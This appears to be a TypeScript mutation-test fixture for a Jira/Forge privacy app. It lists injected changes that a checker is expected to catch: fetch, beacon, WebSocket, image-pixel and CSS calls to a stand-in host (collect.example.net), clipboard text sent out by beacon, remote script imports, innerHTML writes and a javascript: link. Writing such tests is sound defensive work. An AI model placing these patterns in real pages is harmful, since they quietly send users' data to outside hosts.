import { added, changed, type Mutation } from '../mutation';

/** A file of the pages without elements, and a component. */
const FILE = 'static/privacy/admin/overview/verdict.ts';
const COMPONENT = 'static/privacy/ui/lozenge.tsx';
const STYLE = 'static/privacy/styles/page.css';
const HTML = 'static/privacy/index.html';
const AWAY = "'https://collect.example.net'";

const hidden = (name: string, code: string): Mutation =>
  added('subset', `${name}, on a page`, FILE, code);

/** `fetch` and its kin in scripts of the pages. */
const scripts: readonly Mutation[] = [
  hidden('fetch', `export const a = (): unknown => fetch(${AWAY});`),
  hidden('fetch of window', `export const a = (): unknown => window.fetch(${AWAY});`),
  hidden('fetch of self, by name', `export const a = (): unknown => self['fetch'](${AWAY});`),
  hidden(
    'fetch by the view of the document',
    `export const a = (): unknown => document.defaultView?.fetch(${AWAY});`,
  ),
  hidden(
    'fetch by the owner of an element',
    "export const a: unknown = document.querySelector('#app')?.ownerDocument;",
  ),
  hidden(
    'fetch by an element under a made-up type',
    "const found: unknown = document.querySelector('#app');\nexport const a = found as { ownerDocument: { defaultView: { fetch: (url: string) => void } } };",
  ),
  hidden(
    'fetch by the document unpacked',
    'const { defaultView: view } = document;\nexport const a: unknown = view;',
  ),
  hidden(
    'fetch by a member whose name is made at run time',
    "const name = ['default', 'View'].join('') as 'defaultView';\nexport const a: unknown = document[name];",
  ),
  hidden(
    'fetch by the document under another type',
    'interface Bare {\n  readonly body: { readonly baseURI: string };\n}\nconst bare: Bare = document;\nexport const a = bare.body;',
  ),
  hidden('fetch by the document as anything', 'export const a: unknown = document;'),
  hidden('fetch by a copy of the document', 'export const a = { ...document };'),
  hidden(
    'a picture under another type',
    "const bare: { src: string } | null = document.querySelector('img');\nexport const a = (): void => {\n  if (bare !== null) bare.src = 'x';\n};",
  ),
  hidden(
    'a picture behind a function of another type',
    'export const a = (given: (root: Element) => void): void => given as never;',
  ),
  hidden(
    'fetch by the view of a click',
    'export const a = (event: MouseEvent): unknown => event.view;',
  ),
  hidden('fetch by the constructor of a tone', "export const a: unknown = 'success'.constructor;"),
  hidden('an XMLHttpRequest', 'export const a = new XMLHttpRequest();'),
  hidden('a WebSocket', `export const a = new WebSocket(${AWAY});`),
  hidden('an EventSource', `export const a = new EventSource(${AWAY});`),
  hidden('a beacon', `export const a = navigator.sendBeacon(${AWAY});`),
  hidden(
    'a picture as a beacon',
    `const pixel = new Image();\npixel.src = ${AWAY};\nexport const a = pixel;`,
  ),
  hidden('a new window', `export const a = open(${AWAY});`),
  hidden('a new address', `export const a = (): void => {\n  location.href = ${AWAY};\n};`),
  hidden(
    'a new address of the document',
    `export const a = (): void => {\n  document.location = ${AWAY};\n};`,
  ),
  hidden(
    'a message to the page around',
    "export const a = (): void => {\n  parent.postMessage('x', '*');\n};",
  ),
  hidden('a frame', "export const a = document.createElement('iframe');"),
  hidden(
    'code as a text in an element',
    "export const a = (root: Element): void => {\n  root.innerHTML = '<img src=x>';\n};",
  ),
  hidden(
    'code written into the document',
    "export const a = (): void => {\n  document.write('<script>');\n};",
  ),
  hidden('a cookie', "export const a = (): void => {\n  document.cookie = 'seen=1';\n};"),
  hidden('local storage', 'export const a: unknown = localStorage;'),
  hidden('session storage of window', 'export const a: unknown = window.sessionStorage;'),
  hidden('IndexedDB', 'export const a: unknown = indexedDB;'),
  hidden('the cache of the browser', 'export const a: unknown = caches;'),
  hidden('a channel to other pages', "export const a = new BroadcastChannel('x');"),
  hidden('a peer', 'export const a = new RTCPeerConnection();'),
  hidden('a service worker', "export const a = navigator.serviceWorker.register('x.js');"),
  hidden('the bridge below @forge/bridge', "export const a: unknown = '__bridge' in globalThis;"),
  hidden('console', "export const a = (): void => {\n  console.warn('x');\n};"),
  hidden(
    'Jira asked by the page itself',
    "import { requestJira } from '@forge/bridge';\nexport const a = requestJira;",
  ),
  hidden(
    'a remote',
    "import { invokeRemote } from '@forge/bridge';\nexport const a = invokeRemote;",
  ),
  hidden(
    'another page opened',
    "import { router } from '@forge/bridge';\nexport const a = router.open;",
  ),
  hidden('Forge’s functions', "import { asApp } from '@forge/api';\nexport const a = asApp;"),
  hidden('code of the functions', "export { callJira } from '../../src/platform/jira';"),
  hidden(
    'elements made by hand',
    "import { h } from 'preact';\nexport const a = h('img', { src: 'x' });",
  ),
  hidden(
    'a package that nobody listed',
    "import { parse } from 'cheerio';\nexport const a = parse;",
  ),
  hidden('code from elsewhere', "import 'https://collect.example.net/x.js';"),
];

const inSpan = (name: string, to: string): Mutation =>
  changed('door', name, COMPONENT, '<span class={`lozenge lozenge-${tone}`}>{text}</span>', to);

const SAVE = 'static/privacy/ui/save-file.ts';
const COPY = 'static/privacy/ui/copy-text.ts';

/** What the few files may do that are allowed more than the rest. */
const borders: readonly Mutation[] = [
  changed(
    'seal',
    'a file saved to an address elsewhere',
    SAVE,
    'link.href = address',
    `link.href = ${AWAY}`,
  ),
  changed(
    'seal',
    'a file saved to an address that changes',
    SAVE,
    'const address = URL.createObjectURL(new Blob([text], { type }));',
    "let address = URL.createObjectURL(new Blob([text], { type }));\n  address = 'https://collect.example.net';",
  ),
  changed(
    'seal',
    'a frame in the place of a link',
    SAVE,
    "createElement('a')",
    "createElement('iframe')",
  ),
  changed('seal', 'the clipboard read', COPY, 'writeText(text)', 'readText()'),
  changed(
    'seal',
    'a beacon beside the clipboard',
    COPY,
    'clipboard.writeText(text)',
    `sendBeacon(${AWAY}, text)`,
  ),
  changed(
    'seal',
    'a position beside the clipboard',
    COPY,
    'await navigator.clipboard.writeText(text)',
    'navigator.geolocation.getCurrentPosition(() => undefined)',
  ),
];

/** Elements and attributes that load or send. */
const elements: readonly Mutation[] = [
  inSpan('a picture from elsewhere', '<img src="https://collect.example.net/x.png" alt={text} />'),
  inSpan('a script element', '<script>{text}</script>'),
  inSpan('a frame element', '<iframe title={text} />'),
  inSpan('a form', '<form action="https://collect.example.net">{text}</form>'),
  inSpan('an element of another name', '<object data={text} />'),
  inSpan('a style on an element', '<span style="background: red">{text}</span>'),
  inSpan('HTML as a text', '<span dangerouslySetInnerHTML={{ __html: text }} />'),
  inSpan('a link to anywhere', '<a href="https://collect.example.net">{text}</a>'),
  inSpan('a link made at run time', '<a href={`https://${text}`}>{text}</a>'),
  inSpan('a link that reports', '<a href="#x" ping="https://collect.example.net">{text}</a>'),
  inSpan('a link that runs code', '<a href="javascript:alert(1)">{text}</a>'),
  inSpan('attributes that cannot be seen', '<span {...{ class: tone }}>{text}</span>'),
  inSpan('a picture in a drawing', '<svg><image href="https://collect.example.net" /></svg>'),
  inSpan(
    'an element handed to a function of another type',
    '<span ref={(bare: { baseURI: string } | null) => void bare}>{text}</span>',
  ),
  inSpan('an object made to look like an element', '<span>{{ text }}</span>'),
  inSpan('data shown as an element', "<span>{Object.fromEntries([['type', 'img']])}</span>"),
  inSpan('a link that tells where it was', '<a href="https://www.atlassian.com/">{text}</a>'),
  changed(
    'door',
    'an element whose name is made at run time',
    COMPONENT,
    'return <span class={`lozenge lozenge-${tone}`}>{text}</span>;',
    'const Tag = `${tone}-x`;\n  return <Tag>{text}</Tag>;',
  ),
];

/** Style sheets, index.html and the build. */
const sheets: readonly Mutation[] = [
  added(
    'style-sheets',
    'a background from elsewhere',
    STYLE,
    '.page { background: url(https://collect.example.net); }',
  ),
  added(
    'style-sheets',
    'a background of a sort',
    STYLE,
    ".page { background: image-set('x.png' 1x); }",
  ),
  added(
    'style-sheets',
    'a sheet from elsewhere',
    STYLE,
    '@import "https://collect.example.net/x.css";',
  ),
  added(
    'style-sheets',
    'a font from elsewhere in a sheet',
    STYLE,
    '@font-face { font-family: x; src: local(x); }',
  ),
  added(
    'style-sheets',
    'an address behind an escape',
    STYLE,
    '.page { background: \\75rl(//collect.example.net); }',
  ),
  added(
    'style-sheets',
    'a sheet that no rule reads',
    'static/privacy/styles/more.scss',
    '.page { color: red; }',
  ),
  changed(
    'style-sheets',
    'a script in the page',
    HTML,
    '</head>',
    '<script>fetch("x")</script></head>',
  ),
  changed(
    'style-sheets',
    'a script from elsewhere',
    HTML,
    './main.tsx',
    'https://collect.example.net/x.js',
  ),
  changed(
    'style-sheets',
    'a style in the page',
    HTML,
    '</head>',
    '<style>p { color: red }</style></head>',
  ),
  changed('style-sheets', 'a handler in the page', HTML, '<body>', '<body onload="fetch()">'),
  changed(
    'style-sheets',
    'a connection ahead',
    HTML,
    '</head>',
    '<link rel="preconnect" href="https://collect.example.net" /></head>',
  ),
  changed(
    'style-sheets',
    'a page that moves on',
    HTML,
    '</head>',
    '<meta http-equiv="refresh" content="0" /></head>',
  ),
  changed(
    'style-sheets',
    'another base',
    HTML,
    '</head>',
    '<base href="https://collect.example.net" /></head>',
  ),
  changed(
    'style-sheets',
    'a plugin of the build',
    'static/privacy/vite.config.mjs',
    'plugins: [',
    'plugins: [{},',
  ),
  changed(
    'style-sheets',
    'a text put in by the build',
    'static/privacy/vite.config.mjs',
    "base: './',",
    "base: './',\n  define: { x: 'fetch()' },",
  ),
  changed(
    'style-sheets',
    'files that the build adds',
    'static/privacy/vite.config.mjs',
    'publicDir: false',
    "publicDir: 'public'",
  ),
  changed(
    'style-sheets',
    'a script put in beside the texts',
    'static/privacy/text/packed-texts.mjs',
    '`import { named }',
    "`import 'https://collect.example.net/x.js'; import { named }",
  ),
  changed(
    'style-sheets',
    'a sheet put in by the build',
    'static/privacy/tokens.mjs',
    '`:root { color-scheme',
    '`@import url(x); :root { color-scheme',
  ),
];

export const reachPagesMutations: readonly Mutation[] = [
  ...scripts,
  ...borders,
  ...elements,
  ...sheets,
];
